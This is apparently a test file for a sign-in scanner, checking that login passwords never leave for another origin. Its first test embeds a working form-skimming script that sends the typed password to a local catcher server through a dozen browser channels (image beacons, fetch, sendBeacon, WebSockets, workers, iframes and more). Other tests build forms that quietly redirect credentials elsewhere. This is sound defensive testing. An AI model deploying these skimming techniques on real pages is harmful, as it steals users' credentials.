import { describe, expect, it } from 'vitest';
import { scan } from '../../testing/scan.ts';
import { page, type Answer } from '../../testing/serve.ts';
import { formOrder, keepSites } from '../../testing/sign-in-scan.ts';
import { loginForm, serveCatcher, serveDoor } from '../../testing/sign-in-site.ts';

const keep = keepSites();

describe('a password', () => {
  it('is sent to no other origin, whatever the page of the form does', async () => {
    const catcher = await keep(serveCatcher());
    const thief = `<iframe src="${catcher.origin}/frame" title="x"></iframe><img src="${catcher.origin}/before" alt=""><script>
      const at = '${catcher.origin}';
      const send = (value) => {
        new Image().src = at + '/img?p=' + encodeURIComponent(value);
        fetch(at + '/fetch', { method: 'POST', mode: 'no-cors', body: value }).catch(() => {});
        navigator.sendBeacon(at + '/beacon', value);
        try { new WebSocket(at.replace('http', 'ws') + '/socket?p=' + encodeURIComponent(value)); } catch {}
        try { new EventSource(at + '/events?p=' + encodeURIComponent(value)); } catch {}
        new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at + '/worker?p=') + ' + encodeURIComponent(' + JSON.stringify(value) + '))'])));
        const link = document.createElement('link'); link.rel = 'prefetch'; link.href = at + '/prefetch?p=' + encodeURIComponent(value); document.head.append(link);
        const frame = document.createElement('iframe'); frame.src = at + '/newframe?p=' + encodeURIComponent(value); document.body.append(frame);
        document.querySelector('iframe').contentWindow.postMessage(value, '*');
        window.open(at + '/window?p=' + encodeURIComponent(value));
      };
      document.querySelector('[type=password]').addEventListener('input', (event) => send(event.target.value));
      document.querySelector('form').addEventListener('submit', () => send(document.querySelector('[type=password]').value));
      document.querySelector('[type=password]').addEventListener('focus', () => document.querySelector('iframe').focus());
    </script>`;
    const site = await keep(serveDoor({ '/': '' }, { form: loginForm('/login', thief) }));
    const { end } = await scan(site, { signIn: formOrder(site), allow: [catcher.host] });
    expect(end).toMatchObject({ status: 'completed' });
    expect(catcher.heard.some((line) => line.startsWith('GET /before'))).toBe(true);
    expect(catcher.heard.join('\n')).not.toMatch(/correct|horse|battery/);
    expect(catcher.heard.filter((line) => !/^\w+ \/(before|frame|favicon\.ico)/.test(line))).toEqual([]);
  }, 120_000);

  it.each([
    [
      'a form that is sent elsewhere',
      (at: string) =>
        page(`<form method="post" action="${at}/take"><input name="u"><input type="password" name="p"><button>Go</button></form>`),
    ],
    [
      'a button that sends it elsewhere',
      (at: string) =>
        page(
          `<form method="post" action="/login"><input name="u"><input type="password" name="p"><button formaction="${at}/take">Go</button></form>`,
        ),
    ],
    [
      'a form that turns at the last moment',
      (at: string) =>
        page(
          `<form method="post" action="/login" onsubmit="this.action = '${at}/take'"><input name="u"><input type="password" name="p"><button>Go</button></form>`,
        ),
    ],
    [
      'a base that lies elsewhere',
      (at: string) =>
        page(
          '<form method="post" action="take"><input name="u"><input type="password" name="p"><button>Go</button></form>',
          `<base href="${at}/">`,
        ),
    ],
    ['a page that is elsewhere itself', (at: string) => page('', `<meta http-equiv="refresh" content="0;url=${at}/login">`)],
  ])(
    'does not go out by %s',
    async (_what, login) => {
      const catcher = await keep(serveCatcher());
      const site = await keep(serveDoor({ '/': '' }, { form: login(catcher.origin) }));
      const { end } = await scan(site, { signIn: formOrder(site), allow: [catcher.host] });
      expect(end).toMatchObject({ status: 'failed', reason: { code: 'sign_in_elsewhere', values: { to: catcher.host } } });
      expect(catcher.heard.join('\n')).not.toMatch(/correct|horse|battery/);
    },
    120_000,
  );

  it('does not follow a redirect that keeps the body', async () => {
    const catcher = await keep(serveCatcher());
    const more: Record<string, Answer> = {
      '/login': (request, response) =>
        request.method === 'POST'
          ? void response.writeHead(307, { location: `${catcher.origin}/take` }).end()
          : void response
              .writeHead(200, { 'content-type': 'text/html' })
              .end(page('<form method="post"><input name="u"><input type="password" name="p"><button>Go</button></form>')),
    };
    const site = await keep(serveDoor({ '/': '' }, { more }));
    const { end } = await scan(site, { signIn: formOrder(site), allow: [catcher.host] });
    expect(end).toMatchObject({ status: 'failed', reason: { code: 'sign_in_elsewhere' } });
    expect(catcher.heard).toEqual([]);
  }, 120_000);
});
